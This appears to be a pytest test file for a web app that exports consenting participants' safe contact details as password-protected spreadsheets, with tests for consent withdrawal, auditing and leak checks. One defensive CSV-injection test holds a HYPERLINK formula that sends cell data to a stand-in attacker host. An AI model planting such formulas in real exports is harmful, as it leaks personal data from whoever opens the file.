"""The main job: a list of exactly those who said yes, with only their safe ways, under a password."""

from http import HTTPStatus

import pytest

from tests.factories import DEMO_CALL
from tests.integration.desk.worker import PASSWORD, Worker, rows_of_csv, rows_of_xlsx
from tests.integration.tables import everything
from tests.pages import words
from tests.sharing import OWNER
from webapp.desk.contacts import exported_list
from webapp.desk.shared.file_stream import PIECES
from webapp.rules.audit_details import OfPurpose
from webapp.services.answers import erasing, own_copies
from webapp.services.keys import organisation_changes
from webapp.services.opening import disclosure, exported_lists, withdrawals_after_export

SAFE = {
    "name_to_use": "Sky",
    "safe_ways": ["email", "call"],
    "email": "sky@example.org",
    "email_shared": "no",
    "email_say_who": "no",
    "phone": "+44 7700 900123",
    "phone_shared": "unsure",
    "phone_say_who": "yes",
    "voicemail": "no",
    "contact_times": ["weekday_mornings", "weekends"],
    "contact_notes": "Say it is about the book club.",
}


def error_words(worker: Worker) -> list[str]:
    """What the error summary lists."""
    (summary,) = [element for element in worker.page.elements if element.get("role") == "alert"]
    return [words(link) for link in summary.iter("a")]


def standing(worker: Worker, name: str) -> str:
    """What stands in a field, or which radio button is chosen."""
    for element in worker.page.all("input", "textarea"):
        if element.get("name") != name:
            continue
        if element.get("type") == "radio":
            if element.get("checked") is not None:
                return element.get("value", "")
        else:
            return element.get("value") or (element.text or "").strip()
    return ""


def notices(worker: Worker) -> dict[str, set[str]]:
    """Whom the notices of an export's page name, by the heading of each."""
    return {
        words(next(notice.iter("h2"))): {words(one) for one in notice.iter("strong")}
        for notice in worker.page.all("div")
        if "notice" in notice.get("class", "").split() and notice.get("role") != "status"
    }


def open_list(worker: Worker) -> None:
    """Go to the page of the list that Contacts names first."""
    page = worker.get("/desk/contacts")
    links = [a.get("href", "") for a in page.all("a") if "/desk/exports/" in a.get("href", "")]
    worker.get(links[0])


# How it comes


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_our_own_script_is_told_how_far_a_list_is(
    worker: Worker, file_format: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Given five people, in pieces of two
    monkeypatch.setattr(disclosure, "BATCH", 2)
    for _ in range(5):
        worker.answered_by("contact_me", **SAFE)
    # When the script asks for the pieces
    worker.client.environ_base["HTTP_ACCEPT"] = f"{PIECES}, text/html"
    answer = worker.export(file_format=file_format)
    # Then each says for how many of all it stands, the last of everybody, and the end is marked
    assert answer.mimetype == PIECES
    assert answer.headers["X-Accel-Buffering"] == "no"
    assert answer.headers["Content-Disposition"].endswith(f'.{file_format}"')
    told, content, rest = [], b"", answer.data
    while rest != b"end\n":
        head, _, rest = rest.partition(b"\n")
        opened, people, size = map(int, head.split())
        told.append((opened, people))
        content, rest = content + rest[:size], rest[size:]
    assert told == [(2, 5), (4, 5), (5, 5), *([(5, 5)] if file_format == "xlsx" else [])]
    # And together they are the file
    read = rows_of_csv if file_format == "csv" else rows_of_xlsx
    assert len(read(content)) == 5


def test_a_mistake_comes_as_a_page_to_the_script_too(worker: Worker) -> None:
    worker.answered_by("contact_me", **SAFE)
    worker.client.environ_base["HTTP_ACCEPT"] = f"{PIECES}, text/html"

    answer = worker.export(password="short")

    assert (answer.status_code, answer.mimetype) == (HTTPStatus.BAD_REQUEST, "text/html")


# The file


def test_a_spreadsheet_with_exactly_those_who_said_yes(worker: Worker) -> None:
    # Given people who said yes to being contacted, to something else, to nothing, and who changed their mind
    yes = worker.answered_by("contact_me", **SAFE)
    also = worker.answered_by(
        "contact_me", "quote", language="ar", **{**SAFE, "name_to_use": "Rim"}
    )
    worker.answered_by("invite", **SAFE)
    worker.answered_by(**SAFE)
    gone = worker.answered_by("contact_me", **SAFE)
    worker.changes_mind(gone, "contact_me")
    back = worker.answered_by("contact_me", **SAFE)
    worker.changes_mind(back, "contact_me")
    worker.changes_mind(back, "contact_me", granted=True)
    erased = worker.answered_by("contact_me", **SAFE)
    with worker.app.app_context():
        erasing.erase_held(own_copies.find_held(erased.receipt))
    # When a coordinator downloads the list for that purpose
    assert "3 people gave permission." in worker.get("/desk/contacts").text
    answer = worker.export("contact_me")
    # Then it opens with the password, and holds exactly those whose yes stands
    rows = rows_of_xlsx(answer.data)
    assert {row["Reference"] for row in rows} == {yes.reference, also.reference, back.reference}
    # And is a file with a neutral name that nothing on the way keeps
    assert answer.headers["Content-Disposition"].startswith('attachment; filename="list-20')
    assert answer.headers["Cache-Control"] == "no-store"
    assert answer.mimetype.endswith("spreadsheetml.sheet")
    # And says of each what a careful person needs
    (row,) = [row for row in rows if row["Reference"] == also.reference]
    assert row["Name to use"] == "Rim"
    assert row["Language"] == "Arabic"
    assert row["E-mail"] == "sky@example.org"
    assert row["E-mail: may we say who we are?"] == "no"
    assert row["E-mail: does anyone else see it?"] == "no"
    assert row["Phone"] == "+44 7700 900123"
    assert row["Text messages safe?"] == "no"
    assert row["Calls safe?"] == "yes"
    assert row["Voicemail safe?"] == "no"
    assert row["Phone: may we say who we are?"] == "yes"
    assert row["Phone: does anyone else use it?"] == "not sure"
    assert row["Best times"] == "Monday to Friday, in the morning; At the weekend"
    assert row["To keep in mind"] == "Say it is about the book club."
    assert row["Safe as told on"].startswith("20")


@pytest.mark.parametrize("file_format", ["xlsx", "csv"])
def test_only_safe_ways_leave_the_house(worker: Worker, file_format: str) -> None:
    # Given people for whom one way is safe, the other, or none
    mail = worker.answered_by("contact_me", **{**SAFE, "safe_ways": ["email"]})
    phone = worker.answered_by("contact_me", **{**SAFE, "safe_ways": ["text"]})
    worker.answered_by("contact_me", **{**SAFE, "safe_ways": ["none"]})
    worker.answered_by("contact_me", **{**SAFE, "contact_wanted": "no"})
    # When they are exported
    answer = worker.export("contact_me", file_format)
    rows = rows_of_xlsx(answer.data) if file_format == "xlsx" else rows_of_csv(answer.data)
    # Then each has the safe way only, and who called no way safe is not there
    ways = {row["Reference"]: (row["E-mail"], row["Phone"].lstrip("'")) for row in rows}
    assert ways == {
        mail.reference: ("sky@example.org", ""),
        phone.reference: ("", "+44 7700 900123"),
    }


FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Click")'


def test_no_cell_of_a_plain_list_is_a_formula(page_worker: Worker) -> None:
    # Given a participant who types a formula (CSV injection)
    page_worker.answered_by(
        "contact_me", **{**SAFE, "name_to_use": FORMULA, "contact_notes": "-2+3 ,=1+1\t=2"}
    )
    # When they are exported as CSV
    answer = page_worker.export(file_format="csv")
    # Then no cell begins as a formula does, not even after a separator inside it
    (row,) = rows_of_csv(answer.data)
    assert row["Name to use"].startswith("'=")
    assert row["To keep in mind"].startswith("'-2")
    # (a phone number is none, and would not be dialled with an apostrophe in front)
    assert row.pop("Phone") == "+44 7700 900123"
    for cell in row.values():
        assert not cell.startswith(("=", "+", "-", "@", "\t"))
    assert answer.mimetype == "text/csv"


def test_no_cell_of_a_spreadsheet_is_a_formula(page_worker: Worker) -> None:
    page_worker.answered_by("contact_me", **{**SAFE, "name_to_use": FORMULA})
    (row,) = rows_of_xlsx(page_worker.export().data)
    assert row["Name to use"] == FORMULA


def test_the_password_is_the_one_on_the_page(page_worker: Worker) -> None:
    # Given the words that the page suggests
    page_worker.answered_by("contact_me", **SAFE)
    page = page_worker.get("/desk/contacts")
    suggested = standing(page_worker, "suggested")
    assert len(suggested.split()) == 6
    # Then they are text, and in no field where a slip could change them
    assert words(page.only("code")) == suggested
    fields = [e for e in (*page.all("input"), *page.all("textarea")) if e.get("type") != "hidden"]
    assert suggested not in {e.get("value") or words(e) for e in fields}
    # When a coordinator takes them, they open the file
    file_format, kept = "shown", {"suggested": suggested, "password": ""}
    answer = page_worker.export(file_format=file_format, **kept)
    assert rows_of_xlsx(answer.data, suggested)
    # And the next page suggests others
    page_worker.get("/desk/contacts")
    assert standing(page_worker, "suggested") != suggested


def test_a_password_of_ones_own_is_a_choice_of_its_own(page_worker: Worker) -> None:
    # Given a coordinator who types into the field, and does not choose that kind of file
    page_worker.answered_by("contact_me", **SAFE)
    page_worker.get("/desk/contacts")
    suggested = standing(page_worker, "suggested")
    answer = page_worker.export(file_format="shown", password=PASSWORD)
    # Then it is clear which password the file would have
    page_worker._arrive(answer)
    assert error_words(page_worker) == [
        "Empty this, or choose “Spreadsheet with a password of my own”"
    ]
    # And what was typed is kept, beside new words or the same
    assert standing(page_worker, "password") == PASSWORD
    assert len(suggested.split()) == 6
    # When they choose it
    answer = page_worker.press_for_file("Download the list", file_format="own")
    # Then the file opens with theirs, also where it came in two lines
    assert rows_of_xlsx(answer.data, PASSWORD)


def test_words_that_did_not_come_along_lock_no_file(page_worker: Worker) -> None:
    # Given a form that lost the words which were on its page
    page_worker.answered_by("contact_me", **SAFE)
    page_worker.get("/desk/contacts")
    answer = page_worker.press_for_file(
        "Download the list",
        who=f"{DEMO_CALL}:contact_me",
        file_format="xlsx",
        suggested="",
    )
    # Then no file is made with a password that was never shown
    page_worker._arrive(answer)
    assert error_words(page_worker) == [
        "The password on this page is a new one. Write it down, and try again"
    ]
    assert len(standing(page_worker, "suggested").split()) == 6


def test_a_plain_list_needs_no_password(page_worker: Worker) -> None:
    page_worker.answered_by("contact_me", **SAFE)
    assert rows_of_csv(page_worker.export(file_format="csv", password="").data)


# What is wrong is said, and nothing leaves


@pytest.mark.parametrize(
    ("changes", "said"),
    [
        ({"password": "elevenchars"}, "Use a password with at least 12 letters"),
        ({"password": "x" * 256}, "Use a password with at most 255 letters"),
        ({"words": "for sky@example.org"}, "Leave out e-mail addresses and phone numbers"),
        ({"why": "other", "words": ""}, "Give your reason in a few words"),
    ],
    ids=["short", "long", "details", "no-reason"],
)
def test_what_is_wrong_is_said_and_the_rest_is_kept(
    page_worker: Worker, changes: dict[str, str], said: str
) -> None:
    # Given a participant to export
    page_worker.answered_by("contact_me", **SAFE)
    filled = {"words": "in spring", **changes}
    page_worker.get("/desk/contacts")
    shown = standing(page_worker, "suggested")
    # When one thing is wrong
    answer = page_worker.export(suggested=shown, **filled)
    # Then no file leaves
    assert answer.status_code == HTTPStatus.BAD_REQUEST
    assert answer.mimetype == "text/html"
    page_worker._arrive(answer)
    assert any(said in words for words in error_words(page_worker))
    # And all that was typed is still there
    assert standing(page_worker, "who") == "support-needs:contact_me"
    assert standing(page_worker, "why") == filled.get("why", "given")
    assert standing(page_worker, "words") == filled["words"]
    assert standing(page_worker, "file_format") == "own"
    assert standing(page_worker, "password") == filled.get("password", PASSWORD)
    assert standing(page_worker, "suggested") == shown
    # And no export was recorded
    assert not any("exported" in tag for tag in page_worker.tags())


def test_an_empty_form_says_all_that_is_missing(page_worker: Worker) -> None:
    page_worker.answered_by("contact_me", **SAFE)
    page_worker.get("/desk/contacts")
    page_worker.press("Download the list")
    assert error_words(page_worker) == ["Choose who you want to contact"]


@pytest.mark.parametrize(
    "who", ["support-needs:quote", "support-needs:nothing", "elsewhere:contact_me", ""]
)
def test_a_purpose_that_is_not_offered_is_refused(page_worker: Worker, who: str) -> None:
    # Given a request that no page of ours makes
    page_worker.answered_by("contact_me", "quote", **SAFE)
    page = page_worker.get("/desk/contacts")
    token = next(e.get("value") for e in page.all("input") if e.get("name") == "csrf_token")
    page_worker.post(
        "/desk/contacts",
        {
            "csrf_token": token,
            "who": who,
            "why": "given",
            "file_format": "csv",
            "password": "",
        },
    )
    # Then nothing leaves
    assert page_worker.status == HTTPStatus.BAD_REQUEST
    assert error_words(page_worker) == ["Choose who you want to contact"]


def test_a_purpose_without_consents_gives_no_file(worker: Worker) -> None:
    # Given one person who agreed to being shared with a member, and a page that offers it
    with worker.app.app_context():
        share = f"{DEMO_CALL}:share:{organisation_changes.add(OWNER, 'Harbour House').hex}"
    worker.answered_by("contact_me", **SAFE)
    shared = worker.answered_by("share", **SAFE)
    page = worker.get("/desk/contacts")
    offered = {e.get("value") for e in page.all("input") if e.get("name") == "who"}
    # (a purpose without a consent is no choice)
    assert offered == {f"{DEMO_CALL}:contact_me", share}
    # When they take it back before the button is pressed
    worker.changes_mind(shared, "share")
    answer = worker.press_for_file("Download the list", who=share, file_format="csv")
    # Then there is no file, and the page says why
    assert answer.status_code == HTTPStatus.BAD_REQUEST
    worker._arrive(answer)
    assert error_words(worker) == [
        "Nobody gives this permission now, so there is nothing to download"
    ]


# What stays behind


def test_an_export_is_written_down(worker: Worker) -> None:
    # Given a list of two people
    worker.answered_by("invite", **SAFE)
    worker.answered_by("invite", **SAFE)
    worker.export("invite", words="round table in May")
    # When a coordinator looks at what was downloaded
    worker.get("/desk/contacts")
    link = next(a for a in worker.page.all("a") if "/desk/exports/" in a.get("href", ""))
    page = worker.get(link.get("href", ""))
    # Then it says what, for which purpose, why, by whom and how many
    assert "How support needs are decided" in page.text
    assert "Invite me" in page.text
    assert "To invite them to a meeting: round table in May" in page.text
    assert ", by Ana" in page.text
    assert "You may ask me to come to a meeting" in page.text
    assert "People who had given permission 2" in page.text
    # And that no consent was withdrawn, and that this alone does not make the list safe
    assert (
        "Nobody in this list has taken back their permission. But a way that was safe then"
        in page.text
    )
    assert notices(worker) == {}
    # And the record has it
    newest = worker.record()[0]
    assert (newest.tag, newest.detail) == ("contacts exported", OfPurpose("invite"))
    assert newest.reason == "To invite them to a meeting: round table in May"


def test_who_must_be_crossed_out_later(worker: Worker) -> None:
    # Given a list of three people
    stays, withdraws, erases = (worker.answered_by("contact_me", **SAFE) for _ in range(3))
    worker.export()
    # When one takes their yes back, and one erases everything
    worker.changes_mind(withdraws, "contact_me")
    with worker.app.app_context():
        erasing.erase_held(own_copies.find_held(erases.receipt))
    # Then the list of downloads says so
    assert "2 people to cross out" in worker.get("/desk/contacts").text
    link = next(a for a in worker.page.all("a") if "/desk/exports/" in a.get("href", ""))
    page = worker.get(link.get("href", ""))
    # And the export's page names the lines to delete, by reference only
    assert notices(worker) == {
        "Cross these out in your file": {withdraws.reference, erases.reference}
    }
    assert stays.reference not in page.text
    # And an export made now leaves them out
    rows = rows_of_xlsx(worker.export().data)
    assert [row["Reference"] for row in rows] == [stays.reference]


def test_whose_line_must_not_be_used_any_more(worker: Worker) -> None:
    # Given a list of four people
    people = [worker.answered_by("contact_me", **SAFE) for _ in range(4)]
    stays, moves, rewrites, leaves = people
    worker.export()
    # When two of them say that e-mail is not safe any more, and one of these takes the yes back; one changes an answer
    worker.corrects(moves, safe_ways=["call"])
    worker.corrects(rewrites, change_words="Other words.")
    worker.corrects(leaves, safe_ways=["call"])
    worker.changes_mind(leaves, "contact_me")
    # Then the list of downloads counts both
    assert "2 people" in words(worker.get("/desk/contacts").only("table"))
    link = next(a for a in worker.page.all("a") if "/desk/exports/" in a.get("href", ""))
    page = worker.get(link.get("href", ""))
    # And the export's page names each once, under what is to be done
    assert notices(worker) == {
        "Cross these out in your file": {leaves.reference},
        "Do not use these lines": {moves.reference},
    }
    assert stays.reference not in page.text
    # And it leads to where the safe way is now
    worker.follow(moves.reference)
    worker.press("Open the contact details", **{"contact-why": "ask"})
    assert "sky@example.org" not in worker.page.html


def test_crossing_out_is_ticked_off_list_by_list(worker: Worker) -> None:
    # Given a list with a participant who took their permission back
    one, other = (worker.answered_by("contact_me", **SAFE) for _ in range(2))
    worker.export()
    worker.changes_mind(one, "contact_me")
    # When a coordinator looks at Contacts
    page = worker.get("/desk/contacts")
    # Then that comes first, before the form and the earlier lists
    headings = [words(element) for element in page.all("h2")]
    assert headings == ["First, cross these people out", "Download a list", "Earlier lists"]
    open_list(worker)
    # When they have crossed this person out, and say so
    worker.press("Done, I have crossed these people out")
    # Then it is noted who did it, and Contacts has nothing more to do
    assert "Crossed out before" in worker.page.text
    assert f"{one.reference} on" in worker.page.text
    assert notices(worker) == {}
    assert "The record says that you crossed these people out." in worker.page.text
    assert "First, cross these people out" not in worker.get("/desk/contacts").text
    assert worker.tags()[0] == "crossed out in a list"
    # And a participant who withdraws later comes up again, alone
    worker.changes_mind(other, "contact_me")
    open_list(worker)
    assert notices(worker) == {"Cross these out in your file": {other.reference}}


def test_a_tick_is_only_for_those_who_were_shown(worker: Worker) -> None:
    # Given a list's page, on which one person is to be crossed out
    one, other = (worker.answered_by("contact_me", **SAFE) for _ in range(2))
    worker.export()
    worker.changes_mind(one, "contact_me")
    open_list(worker)
    # When another one takes their permission back before the button is pressed
    worker.changes_mind(other, "contact_me")
    page = worker.press("Done, I have crossed these people out")
    # Then nothing is ticked off, both are there, and the page says why
    assert worker.status == HTTPStatus.CONFLICT
    assert "Nothing is ticked off yet" in page.text
    assert notices(worker)["Cross these out in your file"] == {one.reference, other.reference}
    # And a second press does it; a third one changes nothing
    worker.press("Done, I have crossed these people out")
    assert notices(worker) == {}


def test_a_long_list_is_crossed_out_page_by_page(
    page_worker: Worker, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Given pages of two, and a list of four people who all took their permission back
    for module in (withdrawals_after_export, exported_lists, exported_list):
        monkeypatch.setattr(module, "PER_PAGE", 2)
    people = [page_worker.answered_by("contact_me", **SAFE) for _ in range(4)]
    page_worker.export()
    for one in people:
        page_worker.changes_mind(one, "contact_me")
    everyone = {one.reference for one in people}
    # When a coordinator looks at both pages
    open_list(page_worker)
    heading = "Cross these out in your file"
    first = notices(page_worker)[heading]
    assert "In this list, 4 people are to be crossed out." in page_worker.page.text
    assert "Page 1 of 2" in page_worker.page.text
    page_worker.follow("Next")
    second = notices(page_worker)[heading]
    # Then nobody is missing or twice, and the second leads back
    assert (len(first), len(second), first | second) == (2, 2, everyone)
    page_worker.follow("Previous")
    assert notices(page_worker) == {heading: first}
    # When they say that those on the second page are crossed out
    page_worker.follow("Next")
    page_worker.press("Done, I have crossed these people out")
    # Then these alone are, the others come up, and nothing says that the list is done
    assert notices(page_worker) == {heading: first}
    assert "The record says that you crossed these people out." not in page_worker.page.text
    assert "In this list, 4 people" not in page_worker.page.text
    page_worker.press("Done, I have crossed these people out")
    assert notices(page_worker) == {}
    assert "The record says that you crossed these people out." in page_worker.page.text
    # And those who were crossed out have pages as well
    page_worker.follow("More people crossed out")
    page_worker.follow("Previous people crossed out")
    assert "Crossed out before" in page_worker.page.text
    # And an address that is none leads to the first page
    page = page_worker.get(f"{page_worker.path.partition('?')[0]}?after=x&crossed_after=y&page=z")
    assert page_worker.status == HTTPStatus.OK
    assert "More people crossed out" in page.text


# What a list is for


def test_another_reason_needs_words_and_is_shown_to_all(worker: Worker) -> None:
    # Given a coordinator who wants a list for something that its permission does not say
    worker.answered_by("contact_me", **SAFE)
    answer = worker.export(why="other", words="A journalist asked us")
    assert answer.status_code == HTTPStatus.OK
    # Then Contacts, the list's page, the record and Today all say so
    marked = "Outside the permission’s words"
    assert marked in words(worker.get("/desk/contacts").only("table"))
    link = next(a for a in worker.page.all("a") if "/desk/exports/" in a.get("href", ""))
    assert f"{marked}: A journalist asked us" in worker.get(link.get("href", "")).text
    assert worker.record()[0].reason == f"{marked}: A journalist asked us"
    assert "for another reason than people gave permission for" in worker.get("/desk/").text


@pytest.mark.parametrize("why", ["invite", "share", "danger", "purpose:contact_me"])
def test_a_reason_that_the_permission_does_not_have_is_refused(
    page_worker: Worker, why: str
) -> None:
    # Given people who said that we may ask about what they wrote, and a coordinator who sends another reason with it
    page_worker.answered_by("contact_me", **SAFE)
    token = next(
        e.get("value")
        for e in page_worker.get("/desk/contacts").all("input")
        if e.get("name") == "csrf_token"
    )
    page_worker.post(
        "/desk/contacts",
        {
            "csrf_token": token,
            "who": f"{DEMO_CALL}:contact_me",
            "why": why,
            "file_format": "csv",
        },
    )
    # Then nothing leaves
    assert page_worker.status == HTTPStatus.BAD_REQUEST
    assert error_words(page_worker) == ["Choose why you are doing this"]
    assert not any("exported" in tag for tag in page_worker.tags())


# A button that is pressed twice


def test_a_button_pressed_twice_makes_one_list(worker: Worker) -> None:
    # Given the form, filled in
    participant = worker.answered_by("contact_me", **SAFE)
    worker.get("/desk/contacts")
    form = {"who": f"{DEMO_CALL}:contact_me", "file_format": "csv"}
    # When its button is pressed twice
    first, second = (worker.press_for_file("Download the list", **form) for _ in range(2))
    # Then the same list comes again, and there is one
    assert (first.status_code, second.status_code) == (HTTPStatus.OK, HTTPStatus.OK)
    names = {one.headers["Content-Disposition"].partition(".")[0] for one in (first, second)}
    assert len(names) == 1
    assert [row["Reference"] for row in rows_of_csv(second.data)] == [participant.reference]
    assert [(line.tag, line.detail) for line in worker.record() if "exported" in line.tag] == [
        ("contacts exported", OfPurpose("contact_me"))
    ]
    # And with another kind of file, or another reason, the same page makes another list
    for changed in ({"file_format": "own", "password": PASSWORD}, {"words": "in spring"}):
        other = worker.press_for_file("Download the list", **{**form, **changed})
        assert other.status_code == HTTPStatus.OK
        names.add(other.headers["Content-Disposition"].partition(".")[0])
    assert len(names) == 3
    assert worker.tags().count("contacts exported") == 3


def test_nothing_personal_stays_behind(
    worker: Worker, caplog: pytest.LogCaptureFixture, capfd: pytest.CaptureFixture[str]
) -> None:
    # Given a participant whose every word can be recognised
    caplog.set_level("DEBUG")
    mark = "canary"
    participant = worker.answered_by(
        "contact_me",
        **{
            **SAFE,
            "name_to_use": f"{mark} name",
            "email": f"{mark}@example.org",
            "contact_notes": f"{mark} notes",
            "change_words": f"{mark} words",
        },
    )
    secrets = (mark, "7700 900123", worker.founded.owner.passphrase, PASSWORD)
    # When a coordinator reads, reaches and exports them
    assert mark in worker.open_answers(participant).text
    assert mark in worker.open_contact(participant).text
    assert mark in rows_of_xlsx(worker.export().data)[0]["Name to use"]
    # Then no log, no row of any table, no address and no cookie holds a word of it
    printed = "".join(capfd.readouterr())
    with worker.app.app_context():
        rows = repr(everything())
    for secret in secrets:
        assert secret not in caplog.text
        assert secret not in printed
        assert secret not in rows


def test_one_list_done_leads_to_the_next(worker: Worker) -> None:
    # Given two lists with a participant who took their permission back
    participant = worker.answered_by("contact_me", **SAFE)
    worker.export()
    worker.export()
    worker.changes_mind(participant, "contact_me")
    # When one of them is done
    open_list(worker)
    first = worker.path
    worker.press("Done, I have crossed these people out")
    # Then the page says so, and leads to the other one
    worker.follow("Open the next list with people to cross out")
    assert worker.path != first
    assert "Cross these out in your file" in worker.page.text
    # And no address says so where a participant is to be crossed out
    page = worker.get(f"{worker.path}?done=crossed-out")
    assert "The record says that you crossed" not in page.text
